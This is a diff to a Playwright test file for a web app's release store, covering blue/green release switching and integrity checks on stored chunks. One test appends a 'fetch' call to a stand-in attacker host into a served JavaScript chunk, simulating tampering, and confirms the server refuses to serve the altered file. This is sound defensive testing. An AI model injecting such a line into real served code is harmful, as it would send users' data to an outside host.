@@ -58,6 +58,23 @@ test('no page load fails while releases switch under it', async ({ page }) => {
   expect(seen.has('green')).toBe(true);
 });
 
+test('an open page takes the release now active at its next navigation into the remote', async ({ page }) => {
+  expect(await releaseShown(page)).toBe('green');
+  const navigateTo = async (link: string, path: string) => {
+    await page.getByRole('banner').getByRole('link', { name: link }).click();
+    await expect(page).toHaveURL(`${site.baseUrl}${path}`);
+  };
+
+  await site.remotes('rollback', 'mf-content', '--reason', 'back to blue');
+  await navigateTo('Leadership', '/leadership');
+  await expect(page.getByText(stamp)).toHaveText(/release blue/);
+  await expect(page.locator('html[data-hydrated]')).toHaveCount(1);
+
+  await site.remotes('activate', 'mf-content', '2.1.0-green', '--reason', 'green again');
+  await navigateTo('Manifesto', '/manifesto');
+  await expect(page.getByText(stamp)).toHaveText(/release green/);
+});
+
 test('a broken active release shows the fallback, and rolling back restores the page', async ({ page, expectProblems }) => {
   expectProblems(/is unavailable:|RUNTIME-\d+|Failed to load resource|Loading chunk|ChunkLoadError|Refused to execute script/);
   // The store loses one of green's page chunks, as a half-synced CDN would.
@@ -73,19 +90,16 @@ test('a broken active release shows the fallback, and rolling back restores the 
   expect(await releaseShown(page)).toBe('blue');
 });
 
-test('an open page takes the release now active at its next navigation into the remote', async ({ page }) => {
+test('a release not stored as it was published is refused at activate, and a changed file is never served', async ({ page }) => {
+  // Since the test above, green's copy in the store lacks its About chunks.
+  await expect(site.remotes('activate', 'mf-content', '2.1.0-green', '--reason', 'try green again')).rejects.toThrow(
+    /Refused: mf-content 2\.1\.0-green in the release store is not what was published: static\/js\/async\/__federation_expose_About\S* is missing/,
+  );
   expect(await releaseShown(page)).toBe('blue');
-  const navigateTo = async (link: string, path: string) => {
-    await page.getByRole('banner').getByRole('link', { name: link }).click();
-    await expect(page).toHaveURL(`${site.baseUrl}${path}`);
-  };
 
-  await site.remotes('activate', 'mf-content', '2.1.0-green', '--reason', 'new copy, again');
-  await navigateTo('Leadership', '/leadership');
-  await expect(page.getByText(stamp)).toHaveText(/release green/);
-  await expect(page.locator('html[data-hydrated]')).toHaveCount(1);
-
-  await site.remotes('rollback', 'mf-content', '--reason', 'back to blue');
-  await navigateTo('Manifesto', '/manifesto');
-  await expect(page.getByText(stamp)).toHaveText(/release blue/);
+  const chunks = path.join(site.storeDir, 'mf-content/2.0.0-blue/static/js/async');
+  const careers = fs.readdirSync(chunks).find((file) => file.startsWith('__federation_expose_Careers') && file.endsWith('.js'))!;
+  fs.appendFileSync(path.join(chunks, careers), '\nfetch("https://attacker.example/steal")');
+  expect((await page.request.get(`${site.baseUrl}/releases/mf-content/2.0.0-blue/static/js/async/${careers}`)).status()).toBe(404);
+  expect(await releaseShown(page)).toBe('blue');
 });
